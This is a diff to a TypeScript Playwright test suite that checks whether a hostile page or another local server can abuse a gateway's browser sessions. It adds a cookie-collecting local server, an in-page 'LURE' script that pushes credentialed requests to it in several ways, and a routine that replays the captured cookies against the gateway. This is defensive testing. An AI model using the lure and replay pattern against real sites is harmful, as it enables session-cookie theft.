@@ -3,14 +3,17 @@
  * this machine, in every way in which a page makes a browser send a request (decisions, section 11).
  */
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import { readFileSync } from 'node:fs';
-import { createServer } from 'node:http';
+import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import type { BrowserContext, Page } from 'playwright-core';
 import { appOf } from '../../testing/apps.ts';
 import { root, startGateway, type TestGateway } from '../../testing/gateway.ts';
+import { Origin } from '../../testing/origins.ts';
+import { linkTo, OWN_FETCH } from '../../testing/pages.ts';
 import { sharedChromium, withoutChromium } from './chromium.ts';
 
 const PATIENCE_MS = 60_000;
@@ -34,6 +37,9 @@ const HANDLERS = {
   },
 };
 
+/** A file of the victim, whose content somebody knows. */
+const FILE = 'a file of the victim';
+
 /** One attempt of a page: a foreign address, and the request that it makes the browser send. */
 type Try = { url: string; method?: 'GET' | 'POST' | 'PUT' | 'DELETE'; body?: string };
 
@@ -43,6 +49,23 @@ const EMBED = `(src) => new Promise((resolve) => {
   frame.addEventListener('load', resolve);
   document.body.append(frame);
 }).then(() => {})`;
+/** Makes the browser send its cookies to each address: what it loads, what it calls, a form, a window and a frame. */
+const LURE = `(addresses) => Promise.all(addresses.map(async (address) => {
+  const settled = (element) => new Promise((resolve) => {
+    for (const type of ['load', 'error']) element.addEventListener(type, resolve);
+    document.body.append(element);
+  });
+  await fetch(address + '/fetch', { credentials: 'include' }).catch(() => {});
+  await settled(Object.assign(new Image(), { src: address + '/image' }));
+  await settled(Object.assign(document.createElement('script'), { src: address + '/script' }));
+  await settled(Object.assign(document.createElement('iframe'), { src: address + '/frame', name: address }));
+  const form = Object.assign(document.createElement('form'), { action: address + '/form', method: 'post', target: address });
+  document.body.append(form);
+  form.submit();
+  const opened = window.open(address + '/window');
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  opened?.close();
+})).then(() => {})`;
 const inPage = (program: string, ...args: unknown[]) =>
   `(${program})(${args.map((arg) => JSON.stringify(arg)).join(', ')})`;
 const ATTACK = readFileSync(join(root, 'test/browser/hostile-page.js'), 'utf8').replace(/;\s*$/, '');
@@ -67,14 +90,15 @@ describe('a hostile page', { skip: withoutChromium() }, () => {
       const answer = await gateway.upload(id, appOf(id, { ...HANDLERS, manifest }));
       assert.equal(answer.status, 201, answer.text);
     }
+    const stored = await gateway.call('PUT', '/svc/victim/_blobs', { body: FILE });
+    assert.equal(stored.status, 201, stored.text);
     const session = await gateway.call('POST', '/svc/_sessions', { body: { sessionId: 's1' } });
     assert.equal(session.status, 201, session.text);
     context = await (await sharedChromium()).newContext();
     context.setDefaultTimeout(PATIENCE_MS);
     const page = await context.newPage();
-    await page.goto(`${origin('')}/svc/`);
-    const headers = { authorization: `Bearer ${gateway.token}` };
-    await page.evaluate(inPage("(headers) => fetch('/svc/_session', { method: 'POST', headers })", headers));
+    await page.goto(await linkTo(gateway));
+    await page.locator('#content').waitFor();
     // The browser is signed in at every origin.
     for (const [path, host] of [
       ['/svc/hostile/', 'hostile'],
@@ -84,7 +108,7 @@ describe('a hostile page', { skip: withoutChromium() }, () => {
       ['/svc/_draft/s1/victim/', 's1--victim.draft'],
     ] as const) {
       await page.goto(`${origin('')}${path}`);
-      assert.equal(page.url(), `${origin(host)}${path}`);
+      await page.waitForURL(`${origin(host)}${path}`);
       await page.locator('#secret').waitFor();
     }
     await page.close();
@@ -148,7 +172,7 @@ describe('a hostile page', { skip: withoutChromium() }, () => {
     await page.goto(`${origin('')}/svc/victim/`);
     await page.locator('#secret').waitFor();
     const signedIn = await page.evaluate(
-      "fetch('/svc/_session').then((told) => told.json()).then((own) => own.signedIn)",
+      `${OWN_FETCH}('/svc/_session').then((told) => told.json()).then((own) => own.signedIn)`,
     );
     await page.close();
     return signedIn;
@@ -177,19 +201,105 @@ describe('a hostile page', { skip: withoutChromium() }, () => {
     });
   }
 
-  test('of another server on this machine cannot either, although it has no policy', {
-    timeout: 300_000,
-  }, async (t) => {
-    const server = createServer((_request, response) => {
-      response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>Other</title><body>');
+  describe('of another server on this machine', () => {
+    /** What it got of the browser: by the host that it was called, the cookies of the session. */
+    const taken = new Map<string, Set<string>>();
+    let server: Server;
+    let there: (labels: string) => string;
+
+    before(async () => {
+      server = createServer(({ headers }, response) => {
+        const [cookie] = /__Host-svc_session=[^;]+/.exec(headers.cookie ?? '') ?? [];
+        const host = String(headers.host).replace(/:\d+$/, '');
+        if (cookie !== undefined) taken.set(host, (taken.get(host) ?? new Set()).add(cookie));
+        const allowed = {
+          'access-control-allow-origin': headers.origin ?? '*',
+          'access-control-allow-credentials': 'true',
+        };
+        response
+          .writeHead(200, { 'content-type': 'text/html', ...allowed })
+          .end('<!doctype html><title>Other</title><body>');
+      });
+      await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
+      const { port: otherPort } = server.address() as AddressInfo;
+      there = (labels) => `http://${labels === '' ? '' : `${labels}.`}svc.localhost:${otherPort}`;
     });
-    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
-    t.after(() => server.close());
-    const own = `http://other.svc.localhost:${(server.address() as AddressInfo).port}`;
-    const page = await context.newPage();
-    await page.goto(own);
-    await attackFrom(page, '');
-    await page.close();
+    after(() => {
+      server.closeAllConnections();
+      server.close();
+    });
+
+    for (const [where, labels] of [
+      ['at a name of its own', 'other'],
+      ["at the console's name", ''],
+      ["at the name of an app's page", 'victim'],
+    ] as const) {
+      test(`${where} cannot either, although it has no policy`, { timeout: 300_000 }, async () => {
+        const page = await context.newPage();
+        await page.goto(there(labels));
+        assert.equal(await page.evaluate('localStorage.length'), 0);
+        await attackFrom(page, '');
+        await page.close();
+      });
+    }
+
+    test('gets the cookies of the browser, which are worth nothing', { timeout: 300_000 }, async () => {
+      const hosts = ['', 'victim', 's1--victim.draft'];
+      const page = await context.newPage();
+      await page.goto(there('other'));
+      // It makes the browser send them to the gateway's names at its own port, in each way that there is.
+      await page.evaluate(inPage(LURE, hosts.map(there)));
+      for (const opened of context.pages()) if (opened !== page) await opened.close();
+      await page.close();
+      const before = await state();
+      for (const labels of hosts) {
+        const { host, hostname } = new URL(origin(labels));
+        const cookies = [...(taken.get(hostname) ?? [])];
+        assert.ok(cookies.length > 0, `no cookie of ${host} reached the other server, and this test shows nothing`);
+        for (const cookie of cookies) await replay(new Origin(gateway, host, cookie));
+      }
+      assert.deepEqual(await state(), before, 'state that a cookie could change');
+      assert.equal(await isSignedIn(), true);
+    });
+
+    /** What somebody with a cookie would ask the gateway for: calls, streams, files, and the page key. */
+    function wanted(): Try[] {
+      const hash = createHash('sha256').update(FILE).digest('hex');
+      const streams = ['/svc/victim/_live?query=count', '/svc/_logs?follow=1', '/svc/_runs/_events'];
+      const paths = [...streams, '/svc/_draft/s1/victim/_changes', `/svc/victim/_blobs/${hash}`, `/_blobs/${hash}`];
+      const base = origin('');
+      const own = targets('').flatMap((one) =>
+        one.url.startsWith(base) ? [{ ...one, url: one.url.slice(base.length) }] : [],
+      );
+      return [
+        ...own,
+        ...paths.map((url) => ({ url })),
+        { url: '/svc/_draft/s1/_tool/svc_read', method: 'POST', body: call('victim', 'query', 'count') },
+        { url: '/svc/_enter', method: 'POST', body: '{"to":"/svc/victim/"}' },
+        { url: '/svc/_session', method: 'POST', body: '{}' },
+      ];
+    }
+
+    /** What a cookie opens is the page; and it ends nothing but itself. */
+    function isWorthless({ url, method }: Try, status: number): boolean {
+      if (url === '/svc/victim/') return [200, 303, 403].includes(status);
+      // Only at the origin of the app there is something at this address.
+      if (url.startsWith('/_blobs/') && status === 404) return true;
+      return method === 'DELETE' && url === '/svc/_session' ? status === 200 : [401, 403].includes(status);
+    }
+
+    /** Sends a cookie to the gateway as no browser would, with each header that could help. */
+    async function replay(thief: Origin): Promise<void> {
+      const own = { origin: `http://${thief.host}`, 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' };
+      const navigation = { 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document', accept: 'text/html' };
+      for (const one of wanted()) {
+        const { url, method = 'GET', body } = one;
+        for (const headers of method === 'GET' ? [own, navigation] : [own]) {
+          const { status, text } = await thief.call(method, url, { headers, ...(body === undefined ? {} : { body }) });
+          assert.ok(isWorthless(one, status), `${method} ${thief.host}${url}: ${status} ${text.slice(0, 200)}`);
+        }
+      }
+    }
   });
 
   test('calls the tools of an app that its manifest names', async () => {
@@ -198,7 +308,7 @@ describe('a hostile page', { skip: withoutChromium() }, () => {
     const read = (app: string) =>
       page.evaluate(
         inPage(
-          "(body) => fetch('/svc/_tool/svc_read', { method: 'POST', body }).then((answer) => answer.status)",
+          "(body) => svc.fetch('/svc/_tool/svc_read', { method: 'POST', body }).then((answer) => answer.status)",
           call(app, 'query', 'count'),
         ),
       );
